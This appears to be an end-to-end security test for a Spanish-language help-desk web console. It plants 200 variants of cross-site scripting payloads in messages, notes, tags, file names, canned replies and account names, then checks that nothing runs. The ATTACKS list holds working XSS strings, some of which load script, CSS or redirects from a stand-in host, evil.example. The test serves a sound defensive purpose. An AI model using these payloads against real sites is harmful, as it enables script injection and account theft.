/** Whatever people, colleagues and files are called, it is shown as text: no dialog, no refused content, nothing asked of others. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { AgentId, CaseId, FactId } from '../../../src/core/ids.ts';
import { openBrowser } from '../../fakes/browser.ts';
import { askForHuman } from '../../fakes/desk.ts';
import { PEOPLE } from '../../fakes/people.ts';
import { openConsole, openConsoleHouse, settle } from './console-house.ts';
import type { ConsoleHouse } from './console-house.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script src=https://evil.example/x.js></script>',
  "'-alert(1)-'",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">premio</a>',
  'javascript:alert(1)',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=a autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><option><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '</textarea><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'https://evil.example/%3Cscript%3Ealert(1)%3C/script%3E',
] as const;
const WRAPS: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `hola ${attack} adiós`,
  (attack) => attack.toUpperCase(),
  (attack) => `"${attack}'`,
  (attack) => attack.replaceAll('<', '\uFF1C<'),
  (attack) => `\u202E${attack}\u202C`,
  (attack) => `${attack}\n${attack}`,
  (attack) => encodeURIComponent(attack),
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => `]]>${attack}<!--`,
  (attack) => `<b>${attack}</b>`,
  (attack) => `${attack}${attack}`,
];

let browser: Browser;
let house: ConsoleHouse;
beforeAll(async () => {
  [browser, house] = await Promise.all([openBrowser(), openConsoleHouse()]);
  house.clock.advance(Date.now() - house.clock.nowMs());
}, 60_000);
afterAll(async () => {
  await browser.close();
  await house[Symbol.asyncDispose]();
}, 30_000);

test('two hundred attacks in messages, names, notes, tags, files and replies do nothing', async () => {
  const all = [...new Set(WRAPS.flatMap((wrap) => ATTACKS.map(wrap)))].slice(0, 200);
  expect(all).toHaveLength(200);
  const id = await attackEverywhere(all);
  const { agent, editor, admin } = house.staff;
  for (const [who, paths] of [
    [agent, [`/cases/${id}`, '/canned', '/account']],
    [editor, ['/proposals', '/hearing']],
    [admin, ['/agents', '/teams']],
  ] as const) {
    const { page, complaints } = await openConsole(browser, house, who, '/account');
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.addInitScript({
      content: `globalThis.refused = [];
        addEventListener('securitypolicyviolation', (event) => globalThis.refused.push(event.violatedDirective));`,
    });
    for (const path of paths) {
      await page.goto(`${house.origin}/desk${path}`);
      await settle(page);
      if (path.startsWith('/cases')) {
        await page.getByText('<script>alert(1)</script>', { exact: true }).first().waitFor();
        await page.getByRole('button', { name: 'Guardadas' }).click();
        await page.locator('.card').first().waitFor();
        await page.getByRole('tab', { name: 'Detalles' }).click();
        await page.locator('.tag').first().waitFor();
      }
      expect(await page.evaluate('globalThis.refused'), path).toEqual([]);
      expect(await page.locator('#console script, #console iframe, #console a[href^="javascript"]').count()).toBe(0);
    }
    expect(dialogs).toEqual([]);
    expect(complaints).toEqual([]);
    await page.context().close();
  }
});

async function attackEverywhere(all: readonly string[]): Promise<CaseId> {
  const { desk } = house.store;
  const { agent, admin } = house.staff;
  const line = (agentId: AgentId) =>
    ({ action: 'canned_changed', agent: agentId, subject: null, detail: null }) as const;
  const id = await askForHuman(house.house, PEOPLE.rosa.address, { summary: all.slice(0, 20).join('\n') });
  await desk.claims.claim(agent, id);
  for (const text of all) await house.converse(PEOPLE.rosa.address, text, '');
  const [first = '', second = '', third = ''] = all;
  const media = { mediaId: 'm1', mimeType: second, fileName: third, caption: first };
  await house.converse(PEOPLE.rosa.address, { kind: 'document', media }, '');
  await desk.notes.add(agent, id, all.slice(20, 60).join('\n'));
  await desk.notes.setTags(agent, id, all.slice(0, 8));
  for (const text of all.slice(0, 20)) {
    await desk.canned.create({ team: null, language: 'es', title: text, text }, line(agent.id));
    const proposal = { kind: 'new_fact', fact: text as FactId, language: 'es', question: text, comment: text } as const;
    await desk.proposals.make(agent.id, proposal, { ...line(agent.id), action: 'proposal_made' });
  }
  await desk.accounts.change(house.luis.id, { name: second }, { ...line(admin.id), action: 'agent_changed' });
  return id;
}
